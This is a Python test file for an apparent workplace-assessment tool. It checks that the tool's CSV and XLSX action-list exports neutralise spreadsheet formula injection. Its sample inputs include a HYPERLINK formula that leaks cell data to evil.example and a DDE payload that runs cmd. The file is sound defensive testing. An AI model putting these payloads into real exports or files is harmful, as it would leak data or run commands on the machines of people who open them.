"""Exports are safe to open: no cell of the CSV or XLSX action list is a formula (OWASP CSV
injection), whatever employee ids and names the campaign and the reports carry."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import yaml
from hypothesis import given, settings, strategies as st
from openpyxl import load_workbook

from arbocheck.core.trust import campaign, keys
from arbocheck.core.employer import campaign_setup, exports, overview
from arbocheck.core.questionnaire import loader as qloader
from arbocheck.core.report.assessment import ReportMeta
from arbocheck.core.employer.importer import import_files
from arbocheck.core.employer.register import Register
from arbocheck.core.report.build import build
from locations import SCENARIOS

SCEN = SCENARIOS
NASTY = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"klik\")", "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
         "\t=1+1", "\r=1+1", "＝1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _check_csv(data: bytes) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for r in rows:
        for v in r.values():
            assert not v.startswith(FORMULA_START), v
    return rows


def _check_xlsx(data: bytes) -> list[list]:
    ws = load_workbook(io.BytesIO(data)).active
    values = []
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.value
            assert not (isinstance(c.value, str) and c.value.startswith(FORMULA_START)), c.value
        values.append([c.value for c in row])
    return values


def test_formulas_from_a_campaign_and_reports_stay_text(tmp_path, monkeypatch, employer_signer):
    monkeypatch.setenv("ARBOCHECK_HOME", str(tmp_path / "home"))
    reg = Register.open(f"sqlite:///{tmp_path / 'r.sqlite'}", signer=employer_signer)
    ids = [f"E{i}" for i in range(len(NASTY))]  # ids have one safe spelling (identity.py): the names carry the attack
    employees = "employee_id;name\n" + "".join(f"{e};{n}\n" for e, n in zip(ids, NASTY) if "\r" not in n)
    new = campaign_setup.make(organisation="Org", campaign_id="c1", deadline="2026-12-31", employees_csv=employees,
                              expert_recipient=None, register=reg)
    campaign_setup.save(new, tmp_path / "c.json", tmp_path / "codes.csv", reg)
    q = qloader.find("thuiswerkplek")
    answers = yaml.safe_load((SCEN / "laptop_only_all_day.yaml").read_text())["answers"]
    files = []
    for e in new.codes:
        key = keys.generate("W")
        rm = ReportMeta(signer_name="W", fingerprint="", employee_id=e, campaign_id="c1", organisation="Org",
                        enrolment_proof=campaign.enrolment_proof(new.codes[e], "c1", e, key.spki_der))
        files.append(tmp_path / f"{len(files)}.pdf")
        files[-1].write_bytes(build(q, answers, {}, key, rm, lambda i: b"", personal_copy=False).signed)
    assert all(o.accepted for o in import_files(reg, files)), [o.line() for o in import_files(reg, files)]
    rows = overview.action_list(reg)
    assert {r["name"] for r in rows} & set(NASTY)  # the hostile names did reach the list
    got = _check_csv(exports.action_csv(rows, "en"))
    assert "'=cmd|'/C calc'!A0" in {r["name"] for r in got}
    cells = _check_xlsx(exports.action_xlsx(rows, "nl"))
    assert "'=cmd|'/C calc'!A0" in {c for row in cells for c in row}


def test_each_kind_of_formula_is_neutralised():
    rows = [{"employee_id": n, "name": n, "measure": "m", "text": n, "owner": "employer", "priority": "high",
             "term": n, "arbo_provision": "yes", "done": "no"} for n in NASTY + ["a\x00b", "x\udcff"]]
    got = _check_csv(exports.action_csv(rows))
    assert [r["name"] for r in got][:3] == ["'" + NASTY[0], "'" + NASTY[1], "'+1+1"]
    assert [r["name"] for r in got][5:] == ["\\t=1+1", "\\r=1+1", "'＝1+1", "a\\x00b", "x\\udcff"]
    _check_xlsx(exports.action_xlsx(rows))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_no_text_becomes_a_formula(text):
    row = {"employee_id": text, "name": text, "measure": "m", "text": text, "owner": "employer", "priority": "high",
           "term": text, "arbo_provision": "yes", "done": "no"}
    _check_csv(exports.action_csv([row]))
    [_, values] = _check_xlsx(exports.action_xlsx([row]))
    assert values[1] == exports.cell(text) or (values[1] is None and exports.cell(text) == "")
